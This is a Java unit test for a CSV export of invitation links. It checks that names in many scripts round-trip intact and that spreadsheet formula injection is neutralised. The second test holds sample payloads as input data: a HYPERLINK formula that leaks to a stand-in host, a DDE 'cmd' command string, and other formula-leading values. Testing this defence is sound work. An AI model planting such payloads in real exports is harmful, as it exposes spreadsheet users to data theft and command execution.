package com.researchbridge.onboarding.ui;

import static org.assertj.core.api.Assertions.assertThat;

import com.researchbridge.base.AccountId;
import com.researchbridge.security.IssuedInvitation;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

class InvitationLinksTest {

    private static final String BASE = "https://rb.example/invitation/";

    private static IssuedInvitation invited(long id, String email, String name) {
        return new IssuedInvitation(new AccountId(id), email, name, "tok" + id, Instant.parse("2026-12-21T00:00:00Z"));
    }

    private static List<CSVRecord> readBack(byte[] csv) throws Exception {
        String text = new String(csv, StandardCharsets.UTF_8);
        assertThat(text).startsWith("\uFEFF");
        try (var parser = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(text.substring(1)))) {
            assertThat(parser.getHeaderNames()).containsExactly("email", "full_name", "invitation_link");
            return parser.getRecords();
        }
    }

    @Test
    void theFileReadsBackCellForCellWithCommasQuotesLineBreaksAndEveryScript() throws Exception {
        var rows = List.of(invited(1, "aliya@kaznu.kz", "Сейтқали, Әлия \"Ali\""),
                invited(2, "wang.jie@amss.ac.cn", "王杰\r\nsecond line"), invited(3, "o'brien@uni.edu", "O'Brien; Jr."));

        var records = readBack(InvitationLinks.csv(BASE, rows));

        assertThat(records).hasSize(3);
        for (int i = 0; i < rows.size(); i++) {
            assertThat(records.get(i).values()).containsExactly(rows.get(i).email(), rows.get(i).fullName(),
                    BASE + rows.get(i).token());
        }
    }

    @Test
    void noCellStartsAFormulaWhateverTheImportedTextWas() throws Exception {
        var rows = List.of(invited(1, "=hyperlink(\"http://evil.example/?leak\")@x.kz", "=1+1"),
                invited(2, "+2,=3+4@x.kz", "+cmd|' /C calc'!A0"), invited(3, "-2@x.kz", "@SUM(A1)"),
                invited(4, "\tx@x.kz", "\rname"), invited(5, "ok@x.kz", "＝1+1"));

        var records = readBack(InvitationLinks.csv(BASE, rows));

        assertThat(records).hasSize(rows.size());
        for (int i = 0; i < rows.size(); i++) {
            var record = records.get(i);
            for (String cell : record.values()) {
                assertThat(cell).as("cell %s", cell).doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("-")
                        .doesNotStartWith("@").doesNotStartWith("\t").doesNotStartWith("\r").doesNotStartWith("＝");
            }
            // defused, not mangled: the apostrophe is the only change
            assertThat(record.get("email")).isEqualTo(rows.get(i).email().equals("ok@x.kz") ? "ok@x.kz" : "'" + rows.get(i).email());
            assertThat(record.get("full_name")).isEqualTo("'" + rows.get(i).fullName());
        }
    }
}
